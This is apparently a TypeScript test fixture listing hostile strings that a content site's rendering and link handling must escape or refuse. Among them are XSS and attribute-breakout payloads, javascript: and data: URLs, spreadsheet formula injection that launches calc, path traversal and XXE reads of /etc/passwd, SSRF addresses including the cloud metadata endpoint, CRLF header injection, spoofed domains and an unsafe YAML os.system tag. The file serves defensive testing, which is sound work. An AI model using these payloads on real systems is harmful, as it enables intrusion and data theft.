/**
 * The one list of hostile strings. What is written in content comes from editors and from the
 * sources that they read, what stands in an address from whoever made the link. Each text tries to
 * become something else than text wherever it is printed; where it ran, it would set `__ran`.
 */

/** Words that programs have a meaning for, and words without end. */
export const wholeTexts = ['__proto__', 'constructor', 'hasOwnProperty', 'W'.repeat(200)] as const;

/** Texts that become something else by how they begin: addresses, formulas, paths. */
export const beginnings = [
  'javascript:__ran=1//',
  'data:text/html,<script>opener.__ran=1</script>',
  'vbscript:msgbox(1)//',
  '//evil.example/x',
  '\\\\evil.example\\share\\x',
  'https://bank.example@evil.example/',
  'https://аррӏе.example/',
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("https://evil.example?"&A1,"x")',
  "-cmd|' /C calc'!A0",
  "@SUM(A1:A9)*cmd|' /C calc'!A0",
  '＝cmd|full width!A',
  '../../../../etc/passwd',
] as const;

/** Texts that break out wherever they stand. */
export const breakouts = [
  // Out of elements
  '</title></style></textarea></script><script>__ran=1</script>',
  '<img src=x onerror=__ran=1>',
  '--><script>__ran=1</script><!--',
  '<!--<script>__ran=1//',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">__ran=1</script><![CDATA[',
  '<svg><style><!--</style><img src=x onerror=__ran=1>--></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=__ran=1>',
  '<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:__ran=1">',
  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  // Out of attributes
  '"><svg onload=__ran=1>',
  '" autofocus onfocus="__ran=1" x="',
  "' autofocus onfocus='__ran=1' x='",
  '` onclick=__ran=1 x=',
  // Entities, whole and broken
  '&ltscript&gt__ran=1&lt/script&gt &#60b&#62 &ampamp &para &notin &',
  '&#x6Aavascript:__ran=1//&Tab &NewLine JaVaScRiPt&colon __ran=1//%0a',
  // Templates, scripts, styles and Markdown
  "{ {constructor.constructor('__ran=1')()} }$ {globalThis.__ran=1}#{7*7}< %=7*7%>{ %7*7%}",
  "\\u{3c}script\\u{3e}__ran=1\\x3c/script>';__ran=1;//",
  'x{}*{background:url(//evil.example/x)}@import "//evil.example/x.css";',
  '[x][javascript:__ran=1] ![x][//evil.example/x.png] <https://evil.example>',
  // Tables, calendars and headers
  'x;=cmd|A0!B;+x;"=y"',
  'x","=cmd|A0!B","y',
  'x%0D%0ASet-Cookie: x=y%0D%0A%0D%0A%E0%A4%A%00%C0%AF%',
  'END:VEVENT\\nBEGIN:VALARM\\nTRIGGER;VALUE=DATE:x;\\, ^n\\',
  `é${'😀ễ漢'.repeat(30)}`,
  // Writing from right to left, marks on marks, joined signs
  'שלום <b>עולם</b> (2026) "a" - العربية',
  'می‌خواهم 👨‍👩‍👧‍👦 Z̡̢̛̖̗a̴l̷g̸o',
] as const;

/** Lines of visible characters: every text of the content takes them, and shows them. */
export const hostileTexts: readonly string[] = [...wholeTexts, ...beginnings, ...breakouts];

/** Characters that no reader sees, or that turn what stands around them: no text may hold them. */
export const refusedCharacters = [
  ...[0x00, 0x07, 0x1b, 0x7f, 0x85, 0x9b, 0xad, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d],
  ...[0x202e, 0x2062, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0xfeff, 0xfffa, 0xfffc, 0xfffd],
  ...[0xffff, 0xd800, 0xdfff, 0x1fffe, 0xe0041],
].map((code) => String.fromCodePoint(code));

/** Texts of which a reader would see nothing to follow or to read. */
export const blankTexts = [
  '\u200B\u200D',
  '\u2060',
  '\u200E\u200F\u061C',
  '\u3164',
  '\u115F\u1160\uFFA0',
  '\u2800',
  '\u034F',
  '\u180E',
  '\uFE0F',
] as const;

/** What no link of ours and no source's address may be. */
export const hostileAddresses = [
  'javascript:__ran=1',
  'JAVASCRIPT:__ran=1',
  ' javascript:__ran=1',
  'java\tscript:__ran=1',
  'java\nscript:__ran=1',
  '\u0001javascript:__ran=1',
  'javascript&colon;__ran=1',
  'javascript://example.org/%0a__ran=1',
  'data:text/html,<script>__ran=1</script>',
  'vbscript:msgbox(1)',
  'blob:https://example.org/x',
  'file:///etc/passwd',
  'view-source:https://example.org/',
  'ftp://example.org/x',
  'x:y',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  '/\t/evil.example/x',
  'https:\\\\evil.example',
  'https:evil.example/x',
  'https:///evil.example/x',
  'https://bank.example@evil.example/',
  'https://bank.example:x@evil.example/',
  'https://evil.example\\@bank.example/',
  'https://evil.example/"><script>__ran=1</script>',
  'https://evil.example/\u202Efdp.exe',
  'https://localhost/x',
  'http://127.0.0.1/x',
  'http://0x7f.1/x',
  'http://2130706433/x',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]/x',
  'http://[::ffff:127.0.0.1]/x',
  'mailto:a@example.org?bcc=b@example.org',
  'mailto:a@example.org%0D%0ABcc:b@example.org',
] as const;

/** Addresses of public pages that only look as if they ran or led elsewhere. */
export const oddAddresses = [
  "https://example.org/'onmouseover='__ran=1'",
  'https://example.org/?a=1&lt;script&gt;&b=`;c,d\u00e9|{{x}}${y}',
  'https://example.org/#javascript:__ran=1',
  'https://example.org/%0d%0aSet-Cookie:x=y/%00/%E0%A4%A',
  'https://аррӏе.example/x',
] as const;

/** Names of files, without their ending, that may be no address. */
export const hostileNames = [
  '<script>__ran=1<',
  '"onload=__ran=1 x="',
  "'x'",
  'x y',
  'x\ny.md:1:1 All is well. (rule)',
  'x\u001B[2J\u001B]0;title\u0007',
  'x\u202Efdp',
  '__proto__',
  'x\\..\\..\\y',
  '%2e%2e%2fx',
  '%E0%A4%A',
  'tiếng-việt',
  'x\u0301',
  'ⅸ',
  'con',
  'NUL',
  'com1',
  'x.html',
  'x?y#z',
  '=cmd',
  '-x',
] as const;

/** Ids that are sound, and have a meaning for programs. */
export const oddIds = ['constructor', 'undefined', 'feed', 'valueof'] as const;

/** Bodies, or parts of them, in Markdown: each is refused, or printed as words and links alone. */
export const hostileBodies = [
  '<script>__ran=1</script>',
  'Text <img src=x onerror=__ran=1> text.',
  '<details open ontoggle=__ran=1><summary>x</summary></details>',
  '<!-- hidden --> Text.',
  'Text <!--<script>__ran=1//',
  '<?php x ?>',
  '<![CDATA[ x ]]>',
  '<a\nhref="javascript:__ran=1">x</a>',
  'Text &lt;script&gt;__ran=1&lt;/script&gt; &#x3C;img src=x onerror=__ran=1&#x3E;',
  'Text \\<script>__ran=1\\</script> `<script>__ran=1</script>`',
  '```html "><script>__ran=1</script>\n</code></pre><script>__ran=1</script>\n```',
  '``` x"onload=__ran=1//\ntext\n```',
  '    </code></pre><script>__ran=1</script>\n\nText.',
  'Text [x](https://example.org "\\"onmouseover=__ran=1 x=\\"") text.',
  "Text [x](https://example.org '\"><script>__ran=1</script>') text.",
  'Text [x](https://example.org "&#x202E;title&#0;") text.',
  'Text [x](/pairs/?"onmouseover="__ran=1) text.',
  'Text [x](https://example.org/#\'"><script>__ran=1</script>) text.',
  'Text [x](#&#x202E;x) text.',
  'Text ![x](https://evil.example/x.png) text.',
  'Text ![x][y] text.\n\n[y]: https://evil.example/x.png',
  'Text <javascript:__ran=1> text.',
  'Text <https://example.org/"onmouseover=__ran=1> text.',
  'Text www.example.org/"><script>__ran=1</script> text.',
  "Text https://example.org/'onmouseover='__ran=1 text, a\"b@example.org too.",
  'Text[^1] text.\n\n[^1]: Note <script>__ran=1</script>.',
  'Text[^1] text.\n\n[^1]: Note [x](javascript:__ran=1).',
  'Text[^"><script>__ran=1</script>] text.\n\n[^"><script>__ran=1</script>]: Note.',
  'Text[^&#x202E;] text.\n\n[^&#x202E;]: Note.',
  '| a | b |\n| :-: | --: |\n| <script>__ran=1</script> | [x](javascript:__ran=1) |',
  '| a | b |\n| :-: | --: |\n| `<script>` | "&#x22;onload=__ran=1" |',
  '- [ ] box\n- [x] <script>__ran=1</script>',
  '- [ ] box\n- [x] box',
  'Text.\n\n## </h2><script>__ran=1</script>\n\nText.',
  'Text.\n\n## "onclick=__ran=1 x="\n\nText.',
  'Text[^1].\n\n## Main\n\n## User content fn 1\n\n## Footnote label\n\n## Q\n\n[^1]: Note.',
  'Text ${__ran=1} {{x}} {% x %} {=html} :::note\n\n$$\\href{javascript:__ran=1}{x}$$ text.',
  'Text ~~struck~~ ==marked== H~2~O x^2^ {#id .class onclick=__ran=1} :smile: [[wiki]] text.',
  'import x from "//evil.example"\n\nexport const y = <script>__ran=1</script>',
  'Text with a zalgo: Z' + '\u0335\u0321\u0322\u031B\u0316\u0317'.repeat(20),
  'Text &#0; &#x1B; &#xD800; &#xFFFE; &shy; text.',
  'Text &#x202E;gnp.exe text, &#x2066;x.',
  'Text\u2028\u202Etext.',
] as const;

/** YAML that would be more than text, as the value of a briefing's `agency`. */
export const hostileYaml = [
  '!!js/function "function(){__ran=1}"',
  '!!js/undefined ""',
  '!!python/object/apply:os.system ["touch x"]',
  '!!binary PHNjcmlwdD4=',
  '!<tag:yaml.org,2002:js/function> "x"',
  '&a [x, *a]',
  '*a',
  '{<<: {title: x}}',
  '{__proto__: {draft: "true"}}',
  '{constructor: {prototype: {draft: "true"}}}',
  '"\\u202E"',
  '"\\e[31m"',
  '"\\uD800"',
  '"\\0"',
  'x\n...\n--- x',
  '>-\n  x\n\n  y',
  '|\n  x',
] as const;
